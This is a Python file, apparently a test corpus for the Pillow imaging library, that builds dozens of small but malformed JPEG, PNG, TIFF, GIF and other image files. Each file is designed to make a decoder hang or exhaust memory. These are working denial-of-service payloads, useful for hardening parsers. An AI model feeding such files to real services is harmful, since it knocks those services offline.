"""Image files of less than 64 MiB that were made to take hours or all memory; each says what is in it.

Siblings of three that were found: a JPEG of many scans, a TIFF of many strips, many segments of Exif in a JPEG.
"""

import gzip
import io
import random
import struct
import zlib

from PIL import Image

ROOM = 60_000_000
"""Bytes that a bomb may have."""

BOMBS = {}
"""Functions that return a file's bytes, by a name."""


def bomb(make):
    """Lists a bomb."""
    BOMBS[make.__name__] = make
    return make


def saved(format, size=(64, 64), mode="RGB", **options):
    """An image of Pillow's."""
    stream = io.BytesIO()
    Image.radial_gradient("L").resize(size).convert("RGB").convert(mode).save(stream, format, **options)
    return stream.getvalue()


# JPEG


def segment(code, content=b""):
    return bytes((0xFF, code)) + struct.pack(">H", len(content) + 2) + content


def frame(code, width, height, components=1, sampling=0x11):
    parts = b"".join(bytes((number + 1, sampling, 0)) for number in range(components))
    return segment(code, struct.pack(">BHHB", 8, height, width, components) + parts)


def huffman(kind, symbol):
    """A table of one code, `0`."""
    return segment(0xC4, bytes((kind,)) + bytes((1, *bytes(15), symbol)))


def scan(first=0, last=63, components=(1,), bits=0):
    chosen = b"".join(bytes((number, 0)) for number in components)
    return segment(0xDA, bytes((len(components),)) + chosen + bytes((first, last, bits)))


TABLES = segment(0xDB, bytes(1) + bytes([1] * 64)) + huffman(0x00, 0) + huffman(0x10, 0xE0)
END = b"\xff\xd9"


def jpeg(*parts):
    return b"\xff\xd8" + b"".join(parts) + END


def runs(blocks):
    """Coded data that says nothing of so many blocks: runs of 2**14 + 0b10101010101010."""
    count = -(-blocks // (2**14 + 0b10101010101010))
    bits = ("0" + "10" * 7) * count
    bits += "1" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8).replace(b"\xff", b"\xff\x00")


@bomb
def jpeg_of_60_000_scans():
    return jpeg(TABLES, frame(0xC2, 2400, 2400), scan(0, 0) + bytes(11250), (scan(1, 63) + runs(90_000)) * 60_000)


@bomb
def jpeg_of_400_large_scans():
    side = 10_000
    blocks = (side // 8) ** 2
    return jpeg(TABLES, frame(0xC2, side, side), scan(0, 0) + bytes(blocks // 8), (scan(1, 63) + runs(blocks)) * 400)


@bomb
def jpeg_of_many_sequential_scans():
    parts = (scan(components=(1,)) + bytes(2000), scan(components=(2,)) + bytes(2000))
    return jpeg(TABLES, huffman(0x10, 0), frame(0xC0, 1000, 1000, 3), b"".join(parts) * 10_000)


@bomb
def jpeg_of_arithmetic_codes():
    return jpeg(TABLES, frame(0xC9, 13_000, 13_000), scan(), random.Random(0).randbytes(ROOM).replace(b"\xff", b"a"))


@bomb
def jpeg_of_arithmetic_scans():
    scans = (scan(1, 63) + bytes(8)) * 400
    return jpeg(TABLES, frame(0xCA, 8000, 8000, 1), scan(0, 0) + bytes(8), scans)


@bomb
def jpeg_of_exif_segments():
    return jpeg(segment(0xE1, b"Exif\0\0MM\0*\0\0\0\x08") * (ROOM // 18), TABLES, frame(0xC0, 8, 8), scan(), bytes(8))


def overlapping_tags(count, size, kind=1):
    """A TIFF file whose tags all are the same bytes."""
    entries = b"".join(struct.pack(">HHII", tag, kind, size, 8) for tag in range(1, count + 1))
    return b"MM\0*" + struct.pack(">I", 8) + struct.pack(">H", count) + entries + bytes(max(4, size - len(entries)))


@bomb
def jpeg_of_exif_tags():
    exif = overlapping_tags(5400, 64_000)
    return jpeg(segment(0xE1, b"Exif\0\0" + exif), TABLES, frame(0xC0, 8, 8), scan(), bytes(8))


@bomb
def jpeg_of_joined_exif_tags():
    exif = overlapping_tags(65_000, 700_000)
    parts = [segment(0xE1, b"Exif\0\0" + exif[place : place + 60_000]) for place in range(0, len(exif), 60_000)]
    return jpeg(*parts, TABLES, frame(0xC0, 8, 8), scan(), bytes(8))


@bomb
def jpeg_of_comments():
    return jpeg(segment(0xFE) * (ROOM // 4), TABLES, frame(0xC0, 8, 8), scan(), bytes(8))


@bomb
def jpeg_of_junk_between_segments():
    return jpeg(bytes(ROOM), TABLES, frame(0xC0, 8, 8), scan(), bytes(8))


@bomb
def jpeg_of_padding_between_segments():
    return jpeg(b"\xff" * ROOM, TABLES, frame(0xC0, 8, 8), scan(), bytes(8))


@bomb
def jpeg_of_quantization_tables():
    return jpeg(segment(0xDB, (bytes(1) + bytes([1] * 64)) * 1000) * 900, TABLES, frame(0xC0, 8, 8), scan(), bytes(8))


@bomb
def jpeg_of_huffman_tables():
    return jpeg(huffman(0, 0) * (ROOM // 22), TABLES, frame(0xC0, 8, 8), scan(), bytes(8))


@bomb
def jpeg_of_frames():
    return jpeg(TABLES, frame(0xC0, 60_000, 2_900) * (ROOM // 13), scan(), bytes(8))


@bomb
def jpeg_of_restarts():
    restarts = b"".join(bytes((0, 0xFF, 0xD0 + number % 8)) for number in range(8)) * (ROOM // 24)
    return jpeg(TABLES, segment(0xDD, b"\0\1"), frame(0xC0, 60_000, 2_900), scan(), restarts)


@bomb
def jpeg_of_many_views():
    """An MPO of 2**28 images, of which few are there."""
    tags = struct.pack(">HHHII", 2, 0xB001, 4, 1, 2**28) + struct.pack(">HHII", 0xB002, 7, 65_000, 8) + bytes(4)
    content = b"MPF\0MM\0*\0\0\0\x08" + tags
    return jpeg(segment(0xE2, content + bytes(65_500 - len(content))), TABLES, frame(0xC0, 8, 8), scan(), bytes(8))


@bomb
def jpeg_of_large_sampling():
    return jpeg(TABLES, frame(0xC2, 65_000, 1_000, 4, 0x44), scan(0, 0), bytes(2**20))


# PNG


def chunk(name, content=b""):
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def png(*chunks, width=8, height=8, depth=8, color=2, pixels=None):
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, color, 0, 0, 0))
    pixels = chunk(b"IDAT", zlib.compress(bytes(8 * 25))) if pixels is None else pixels
    return b"\x89PNG\r\n\x1a\n" + header + b"".join(chunks) + pixels + chunk(b"IEND")


def zeros(count):
    """So many zeros, compressed."""
    packer, step = zlib.compressobj(9), bytes(2**24)
    parts = [packer.compress(step[: min(len(step), count - place)]) for place in range(0, count, len(step))]
    return b"".join((*parts, packer.flush()))


@bomb
def png_of_compressed_text():
    return png(chunk(b"zTXt", b"Comment\0\0" + zeros(2**20)) * 50_000)


@bomb
def png_of_compressed_keyless_text():
    return png(chunk(b"zTXt", b"\0\0" + zeros(2**20)) * 50_000)


@bomb
def png_of_profiles():
    return png(chunk(b"iCCP", b"a\0\0" + zeros(2**20)) * 50_000)


@bomb
def png_of_international_text():
    return png(chunk(b"iTXt", b"a\0\1\0\0\0" + zeros(2**20)) * 50_000)


@bomb
def png_of_empty_chunks():
    return png(chunk(b"prVt") * (ROOM // 12))


@bomb
def png_of_empty_data():
    return png(pixels=chunk(b"IDAT") * (ROOM // 12) + chunk(b"IDAT", zlib.compress(bytes(8 * 25))))


@bomb
def png_of_exif_tags():
    return png(chunk(b"eXIf", overlapping_tags(65_535, ROOM // 20)))


@bomb
def png_of_exif_tags_in_text():
    exif = b"Exif\0\0" + overlapping_tags(40_000, 480_000)
    text = b"\nexif\n%8d\n%s" % (len(exif), exif.hex().encode())
    return png(chunk(b"zTXt", b"Raw profile type exif\0\0" + zlib.compress(text)))


@bomb
def png_of_long_xmp():
    return png(chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + b"tiff:Orientation=" * (ROOM // 17)))


@bomb
def png_of_frames():
    control = struct.pack(">IIIIIHHBB", 0, 8, 8, 0, 0, 1, 1, 0, 0)
    data = zlib.compress(bytes(8 * 25))
    frames = b"".join(
        chunk(b"fcTL", struct.pack(">I", number) + control[4:]) + chunk(b"fdAT", struct.pack(">I", number + 1) + data)
        for number in range(1, 800_000, 2)
    )
    return png(chunk(b"acTL", struct.pack(">II", 400_000, 0)), chunk(b"fcTL", control))[:-12] + frames + chunk(b"IEND")


@bomb
def png_of_16_bits():
    return png(pixels=chunk(b"IDAT", zeros(13_000 * (1 + 8 * 13_000))), width=13_000, height=13_000, depth=16, color=6)


@bomb
def png_in_one_column():
    return png(pixels=chunk(b"IDAT", zeros(2 * 178_000_000)), width=1, height=178_000_000, color=0)


@bomb
def png_interlaced():
    data = bytearray(png(pixels=chunk(b"IDAT", zeros(2**29)), width=178_000_000, height=1, color=0))
    data[28] = 1
    data[29:33] = struct.pack(">I", zlib.crc32(data[12:29]))
    return bytes(data)


# TIFF


def tiff(tags, content=b""):
    """A TIFF of one directory; `tags` are (tag, kind, count, value or place), places counted from `content`."""
    start = 8 + 2 + 12 * len(tags) + 4
    entries = b"".join(
        struct.pack("<HHII", tag, kind, count, value + (start if place else 0))
        for tag, kind, count, value, place in sorted(tags)
    )
    return b"II*\0" + struct.pack("<IH", 8, len(tags)) + entries + bytes(4) + content


def one(tag, value, kind=4):
    return tag, kind, 1, value, False


def strips(width, height, compression, content, rows=None, bits=8, samples=1):
    return tiff(
        [
            *(one(256, width), one(257, height), one(258, bits, 3), one(259, compression, 3)),
            *(one(262, 1 if samples == 1 else 2, 3), one(277, samples, 3), one(278, rows or height)),
            *((273, 4, 1, 0, True), one(279, len(content))),
        ],
        content,
    )


@bomb
def tiff_of_50_000_000_strips():
    count = 50_000_000
    tags = [one(256, 1), one(257, count), one(258, 8, 3), one(259, 1, 3), one(262, 1, 3), one(277, 1, 3), one(278, 1)]
    return tiff([*tags, (273, 1, count, 0, True), (279, 1, count, 0, True)], bytes(count))


@bomb
def tiff_of_strips_compressed():
    count = 14_000_000
    tags = [one(256, 1), one(257, count), one(258, 8, 3), one(259, 5, 3), one(262, 1, 3), one(277, 1, 3), one(278, 1)]
    return tiff([*tags, (273, 4, count, 0, True), (279, 4, count, 0, True)], bytes(4 * count))


@bomb
def tiff_of_tiles():
    count = 14_000_000
    tags = [one(256, 16 * 3741), one(257, 16 * 3741), one(258, 1, 3), one(259, 8, 3), one(262, 1, 3), one(277, 1, 3)]
    return tiff(
        [*tags, one(322, 16), one(323, 16), (324, 4, count, 0, True), (325, 4, count, 0, True)], bytes(4 * count)
    )


@bomb
def tiff_of_a_large_tile():
    content = zeros(2**20)
    tags = [one(256, 8), one(257, 8), one(258, 8, 3), one(259, 8, 3), one(262, 1, 3), one(277, 1, 3)]
    tiles = [one(322, 2**20 - 16), one(323, 2**10 * 3), (324, 4, 1, 0, True), one(325, len(content))]
    return tiff([*tags, *tiles], content)


GRAY = [one(256, 8), one(257, 8), one(258, 8, 3), one(259, 1, 3), one(262, 1, 3), one(273, 8), one(277, 1, 3)]


@bomb
def tiff_of_tags():
    """Tags that all are the same bytes."""
    return tiff([*GRAY, one(279, 64), *((tag, 1, ROOM // 2, 0, True) for tag in range(1000, 60_000))], bytes(ROOM // 2))


@bomb
def tiff_of_color_map():
    return tiff([*GRAY, one(279, 64), (320, 3, ROOM // 2, 0, True)], bytes(ROOM))


@bomb
def tiff_of_sample_tags():
    """Bits of 30 million samples."""
    tags = [tag for tag in GRAY if tag[0] != 258]
    return tiff([*tags, one(279, 64), (258, 3, ROOM // 2, 0, True), (339, 3, ROOM // 2, 0, True)], bytes(ROOM))


@bomb
def tiff_of_exif_directories():
    """Tags that all are the same bytes, in the directory of Exif."""
    content = overlapping_tags(60_000, ROOM // 2)[8:]
    return tiff([*GRAY, one(279, 64), (34665, 4, 1, 0, True), (34853, 4, 1, 0, True)], content)


@bomb
def tiff_of_directories():
    """Each of 5 million directories leads to the next, the last to the first."""
    count = ROOM // 18
    parts = [struct.pack("<HHHIII", 1, 256, 4, 1, 1, 8 + 18 * ((place + 1) % count)) for place in range(count)]
    return b"II*\0" + struct.pack("<I", 8) + b"".join(parts)


@bomb
def tiff_of_a_large_strip():
    return strips(13_000, 13_000, 8, zeros(13_000 * 13_000 * 8), bits=16, samples=4)


@bomb
def tiff_of_zeros_cut_off():
    return strips(13_000, 13_000, 8, zeros(10**8), rows=1)


@bomb
def tiff_of_jpeg_scans():
    return strips(2400, 2400, 7, jpeg_of_60_000_scans())


@bomb
def tiff_of_old_jpeg():
    return strips(2400, 2400, 6, jpeg_of_60_000_scans())


@bomb
def tiff_of_exif_loops():
    tags = [one(256, 8), one(257, 8), one(258, 8, 3), one(259, 1, 3), one(262, 1, 3), one(34665, 8), one(34853, 8)]
    return tiff([*tags, one(273, 8), one(279, 64)], bytes(64))


@bomb
def tiff_of_long_xmp():
    text = b'tiff:Orientation="' * (ROOM // 18)
    return tiff(
        [one(256, 8), one(257, 8), one(258, 8, 3), one(262, 1, 3), one(273, 8), (700, 1, len(text), 0, True)], text
    )


# Others


@bomb
def gif_of_extensions():
    return saved("GIF")[:-1].replace(b",", b"!\xfe\x01a\0" * (ROOM // 5) + b",", 1)


@bomb
def gif_of_frames():
    data = saved("GIF", (1, 1))
    start = data.index(b",")
    return data[:start] + data[start:-1] * (ROOM // len(data[start:-1])) + b";"


@bomb
def gif_of_blocks():
    data = saved("GIF")
    return data[:-1] + b"!\xff\x0bNETSCAPE2.0" + b"\x01a" * (ROOM // 2) + b"\0;"


@bomb
def gif_of_one_large_frame():
    data = bytearray(saved("GIF", (8, 8)))
    start = data.index(b",")
    data[start + 5 : start + 9] = data[6:10] = struct.pack("<HH", 65_000, 2_700)
    return bytes(data)


@bomb
def icon_of_a_large_png():
    inside = png_of_16_bits()
    return struct.pack("<HHHBBBBHHII", 0, 1, 1, 0, 0, 0, 0, 1, 32, len(inside), 22) + inside


@bomb
def icon_of_entries():
    count = 65_535
    inside = saved("PNG")
    return (
        struct.pack("<HHH", 0, 1, count)
        + struct.pack("<BBBBHHII", 0, 0, 0, 0, 1, 32, len(inside), 6 + 16 * count) * count
        + inside
    )


@bomb
def icon_of_apple_of_a_large_jpeg2000():
    inside = saved("JPEG2000", (5000, 5000))
    return b"icns" + struct.pack(">I4sI", len(inside) + 16, b"ic10", len(inside) + 8) + inside


@bomb
def icon_of_apple_of_blocks():
    return b"icns" + struct.pack(">I", ROOM) + b"abcd\0\0\0\x08" * (ROOM // 8)


@bomb
def psd_of_layers():
    layer = bytes(16) + struct.pack(">H", 0) + bytes(12) + bytes(4)
    layers = struct.pack(">h", -32_767) + layer * 32_767
    head = b"8BPS" + struct.pack(">H6xHIIHH", 1, 3, 8, 8, 8, 3)
    return head + bytes(4) + bytes(4) + struct.pack(">II", len(layers) + 4, len(layers)) + layers + bytes(2 + 192)


@bomb
def psd_of_resources():
    resources = b"8BIM\0\1\0\0\0\0\0\0" * (ROOM // 12)
    head = b"8BPS" + struct.pack(">H6xHIIHH", 1, 3, 8, 8, 8, 3)
    return head + bytes(4) + struct.pack(">I", len(resources)) + resources + bytes(4) + bytes(2 + 192)


@bomb
def psd_large():
    return b"8BPS" + struct.pack(">H6xHIIHH", 1, 3, 29_000, 6_000, 8, 3) + bytes(12) + b"\0\1" + bytes(ROOM)


@bomb
def qoi_large():
    return b"qoif" + struct.pack(">IIBB", 5700, 5700, 3, 0) + b"\xc0" * (5700 * 5700)


@bomb
def fits_compressed():
    inside = gzip.compress(bytes(5700 * 5700 * 4), 9)
    cards = {"XTENSION": "'BINTABLE'", "BITPIX": "8", "NAXIS": "2", "NAXIS1": "0", "NAXIS2": "0"}
    cards |= {
        "ZIMAGE": "T",
        "ZCMPTYPE": "'GZIP_1  '",
        "ZBITPIX": "8",
        "ZNAXIS": "2",
        "ZNAXIS1": "5700",
        "ZNAXIS2": "5700",
    }
    first = "SIMPLE  = T".ljust(80) + "BITPIX  = 8".ljust(80) + "NAXIS   = 0".ljust(80) + "END".ljust(80)
    second = "".join(f"{key:8}= {value}".ljust(80) for key, value in cards.items()) + "END".ljust(80)
    return first.ljust(2880).encode() + second.ljust(2880).encode() + inside


@bomb
def fits_of_cards():
    return b"SIMPLE  = T".ljust(80) + b"".join(b"%-8d= 1".ljust(80) % number for number in range(ROOM // 80))


@bomb
def ppm_of_comments():
    return b"P6\n" + b"#\n" * (ROOM // 2)


@bomb
def ppm_plain_of_comments():
    return b"P2 100 100 255\n" + b"#\n" * (ROOM // 2)


@bomb
def ppm_plain():
    return b"P3 5700 1900 65535 " + b"7 " * (5700 * 1900 * 3)


@bomb
def ppm_bits_plain():
    return b"P1 5700 5700 " + b"1" * (5700 * 5700)


@bomb
def ppm_scaled():
    return b"P6 5700 3500 254 " + bytes(5700 * 3500 * 3)


@bomb
def xbm_of_lines():
    return b"#define a_width 8\n" * (ROOM // 18)


@bomb
def xbm_of_codes():
    return b"#define a_width 13000\n#define a_height 13000\nstatic char a_bits[] = {\n" + b"0x0g," * (ROOM // 5)


@bomb
def xpm_of_colors():
    """Each pixel is looked for among 256 colors."""
    colors = b"".join(b'"%02x c #%06x",\n' % (n, n) for n in range(256))
    row = b'"' + b"ff" * 5000 + b'",\n'
    return b'/* XPM */\nstatic char *a[] = {\n"5000 5700 256 2",\n' + colors + row * 5700 + b"};"


@bomb
def im_of_lines():
    return b"Image type: L image\r\nFile size (no of images): 1\r\n" + b"a: b\r\n" * (ROOM // 6)


@bomb
def im_of_comments():
    return b"Image type: L image\r\n" + b"Comment: b\r\n" * (ROOM // 12)


@bomb
def im_of_numbers():
    return b"Image type: L image\r\n" + (b"Image size (x*y): " + b"9" * 70 + b"\r\n") * (ROOM // 90)


@bomb
def iptc_of_fields():
    return b"\x1c\x01\x01\0\x00" * (ROOM // 5)


def in_iptc(inside):
    """A gray image of 8 x 8 pixels, of any format, in IPTC's."""
    fields = ((3, 60, b"\1\0"), (3, 20, b"\0\x08"), (3, 30, b"\0\x08"), (3, 120, b"\5"))
    head = b"".join(struct.pack(">BBBH", 0x1C, *tag, len(value)) + value for *tag, value in fields)
    return head + b"\x1c\x08\x0a\x84\0" + struct.pack(">I", len(inside)) + inside + bytes(5)


@bomb
def iptc_of_a_bomb():
    return in_iptc(png_of_16_bits())


@bomb
def jpeg2000_of_tiles():
    data = bytearray(saved("JPEG2000", (512, 512), no_jp2=True))
    siz = data.index(b"\xff\x51")
    struct.pack_into(">IIIIIIII", data, siz + 6, 6_000, 6_000, 0, 0, 24, 24, 0, 0)
    return bytes(data)


@bomb
def jpeg2000_of_layers():
    return saved("JPEG2000", (4000, 4000), quality_layers=[100 - n / 10 for n in range(900)], num_resolutions=6)


@bomb
def jpeg2000_of_components():
    data = bytearray(saved("JPEG2000", no_jp2=True))
    siz = data.index(b"\xff\x51")
    count = 16_384
    part = data[siz : siz + 40]
    struct.pack_into(">H", part, 2, 38 + 3 * count)
    struct.pack_into(">H", part, 38, count)
    return bytes(data[:siz] + part + b"\7\1\1" * count + data[siz + 2 + struct.unpack_from(">H", data, siz + 2)[0] :])


@bomb
def jpeg2000_large():
    return saved("JPEG2000", (6000, 6000), irreversible=True, quality_mode="rates", quality_layers=[200])


@bomb
def jpeg2000_of_boxes():
    return saved("JPEG2000")[:12] + b"\0\0\0\x08abcd" * (ROOM // 8)


@bomb
def webp_of_frames():
    stream = io.BytesIO()
    frames = [Image.new("RGB", (2, 2), (n % 256, n // 256, 0)) for n in range(3000)]
    frames[0].save(stream, "WEBP", save_all=True, append_images=frames[1:], lossless=True, method=0)
    return stream.getvalue()


@bomb
def webp_large():
    return saved("WEBP", (16_000, 2_700), lossless=True, method=0)


@bomb
def webp_of_exif_tags():
    return saved("WEBP", exif=b"Exif\0\0" + overlapping_tags(65_535, ROOM // 20))


@bomb
def avif_large():
    return saved("AVIF", (8_000, 7_000), speed=10)


@bomb
def tga_of_runs():
    return struct.pack("<BBBHHBHHHHBB", 0, 0, 10, 0, 0, 0, 0, 0, 60_000, 2_900, 24, 0) + b"\xff\1\2\3" * (ROOM // 4)


@bomb
def pcx_of_runs():
    head = struct.pack("<BBBBHHHH", 10, 5, 1, 8, 0, 0, 59_999, 2_899) + bytes(53) + struct.pack("<BH", 3, 60_000)
    return head.ljust(128, b"\0") + b"\xff\1" * (ROOM // 2)


@bomb
def sgi_of_runs():
    head = struct.pack(">hbbHHHH", 474, 1, 1, 3, 60_000, 2_900, 3)
    return head.ljust(512, b"\0") + struct.pack(">I", 512) * (2 * 2_900 * 3) + b"\xff\1" * 2**20


@bomb
def dds_large():
    head = struct.pack("<IIIIII", 124, 0x1007, 13_000, 13_000, 0, 0).ljust(72, b"\0") + bytes(4)
    return b"DDS " + head + struct.pack("<II4sIIIII", 32, 4, b"DXT1", 0, 0, 0, 0, 0) + bytes(20) + bytes(ROOM)


@bomb
def dds_of_masks():
    head = struct.pack("<IIIIII", 124, 0x1007, 3900, 3900, 0, 0).ljust(72, b"\0")
    masks = struct.pack("<IIIIIIII", 32, 0x41, 0, 32, 0xFF0000, 0xFF00, 0xFF, 0xFF000000)
    return b"DDS " + head + masks + bytes(20) + bytes(ROOM)


@bomb
def blp_large():
    data = saved("BLP", (64, 64), "P")
    head = bytearray(data[: 20 + 128])
    struct.pack_into("<II", head, 12, 5700, 5700)
    return bytes(head) + bytes(1024 + 5700 * 5700)


@bomb
def bmp_of_runs():
    head = struct.pack("<2sIHHI", b"BM", 0, 0, 0, 54 + 1024) + struct.pack(
        "<IiiHHIIiiII", 40, 5700, 5700, 1, 8, 1, 0, 0, 0, 256, 0
    )
    return head + bytes(1024) + b"\1\1" * (5700 * 5700 // 2)


@bomb
def bmp_of_colors():
    head = struct.pack("<2sIHHI", b"BM", 0, 0, 0, 0) + struct.pack(
        "<IiiHHIIiiII", 40, 8, 8, 1, 8, 0, 0, 0, 0, ROOM // 4, 0
    )
    return head + bytes(ROOM)


@bomb
def bmp_cut_off():
    return struct.pack("<2sIHHI", b"BM", 0, 0, 0, 54) + struct.pack(
        "<IiiHHIIiiII", 40, 13_000, 13_000, 1, 24, 0, 0, 0, 0, 0, 0
    )


@bomb
def msp_large():
    return b"LinS" + struct.pack("<HH", 5700, 5700) + bytes(24) + b"\xff\0" * 5700 + b"\0\xff\1" * 10**7


@bomb
def fli_of_chunks():
    chunks = struct.pack("<IH", 6, 99) * 65_535
    frame = struct.pack("<IHH8x", len(chunks) + 16, 0xF1FA, 65_535) + chunks
    head = struct.pack("<IHHHHH", 0, 0xAF11, 65_535, 60_000, 2_900, 8).ljust(128, b"\0")
    return head + frame


@bomb
def gbr_large():
    return struct.pack(">IIIII", 28, 2, 60_000, 2_900, 1) + b"GIMP" + bytes(4) + bytes(ROOM)


@bomb
def dcx_of_a_bomb():
    inside = pcx_of_runs()
    return struct.pack("<III", 987_654_321, 12, 0) + inside


@bomb
def spider_large():
    header = [0.0] * 256
    for place, value in ((1, 1), (2, 13_000), (5, 1), (12, 13_000), (13, 1), (22, 1024), (23, 4)):
        header[place - 1] = float(value)
    return struct.pack(">256f", *header)


@bomb
def text_without_lines():
    return b"a" * ROOM


@bomb
def zeros_only():
    return bytes(ROOM)
